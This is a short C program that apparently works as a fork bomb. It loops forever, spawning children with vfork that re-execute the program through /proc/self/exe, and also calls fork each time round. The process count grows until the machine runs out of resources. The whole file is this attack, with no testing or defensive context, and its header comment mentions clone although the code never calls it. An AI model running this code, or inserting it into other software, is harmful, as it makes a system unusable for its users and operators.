/* Forks by vfork and clone as fast as it can; each child starts the program again. */
#define _GNU_SOURCE
#include <sched.h>
#include <stdlib.h>
#include <unistd.h>

int main(int count, char **args) {
    (void)count;
    for (;;) {
        if (vfork() == 0) {
            execl("/proc/self/exe", args[0], (char *)0);
            _exit(1);
        }
        fork();
    }
}
